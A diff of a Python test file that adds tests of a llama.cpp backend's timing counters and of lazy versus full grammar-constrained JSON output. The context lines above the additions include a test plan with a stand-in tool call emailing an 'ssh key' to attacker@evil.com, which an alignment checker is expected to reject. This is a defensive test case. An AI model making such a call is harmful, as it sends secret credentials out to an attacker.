@@ -45,3 +45,42 @@ async def test_vista_on_a_tiny_plan_pair(real_settings: Settings) -> None:
         ToolCall(tool="send_email", arguments={"to": "attacker@evil.com", "body": "ssh key"}),)))
     assert good.aligned and good.steps[0].judge_calls == 1  # the city was settled by the pre-check
     assert not bad.aligned
+
+
+async def test_timings_show_where_the_time_went(real_settings: Settings) -> None:
+    """llama.cpp's counters per request: the second request runs only what follows the system prompt
+    the two share (llama.cpp keeps the evaluated beginning), and decodes its reply token by token."""
+    backend = get_backend("llamacpp/qwen2.5-coder-1.5b", real_settings, cache=False)
+    backend.inner._llama().reset()  # type: ignore[attr-defined]  # no prompt state from earlier tests
+    system = Message(role="system", content="You name the capital city of the country you are asked "
+                                            "about. Reply with the city's name only.")
+
+    def ask(country: str) -> list[Message]:
+        return [system, Message(role="user", content=f"Which city is the capital of {country}?")]
+
+    first = await backend.complete(ask("France"))
+    second = await backend.complete(ask("Japan"))
+    assert first.timings is not None and second.timings is not None
+    assert first.timings.batch_tokens >= first.usage.prompt_tokens - 1 > 20
+    assert second.timings.batch_tokens < second.usage.prompt_tokens - 20
+    assert second.timings.decoded_tokens >= 1 and second.timings.seconds > second.timings.decode_seconds > 0
+    assert "paris" in first.text.lower() and "tokyo" in second.text.lower()
+
+
+async def test_the_lazy_grammar_gives_the_full_grammars_reply(real_settings: Settings) -> None:
+    """Checking only the greedy pick against the grammar, and masking the vocabulary only when it is
+    refused, picks the same tokens as masking it every time (string limits, an enum, a boolean)."""
+    schema = {"type": "object", "properties": {"topic": {"type": "string", "maxLength": 12},
+                                               "kind": {"enum": ["question", "order"]},
+                                               "polite": {"type": "boolean"}},
+              "required": ["topic", "kind", "polite"]}
+    prompt = [Message(role="user", content="Classify: 'Please tell me the weather in Paris tomorrow.' JSON.")]
+    replies = []
+    for lazy in (False, True):
+        backend = get_backend("llamacpp/qwen2.5-coder-1.5b",
+                              real_settings.model_copy(update={"llm_lazy_grammar": lazy}), cache=False)
+        backend.inner._llama().reset()  # type: ignore[attr-defined]  # no prompt state from earlier tests
+        replies.append(await backend.complete(prompt, schema=schema))
+    full, lazy_reply = replies
+    assert lazy_reply.text == full.text and lazy_reply.parsed is not None
+    assert len(lazy_reply.parsed["topic"]) <= 12 and lazy_reply.parsed["kind"] in ("question", "order")
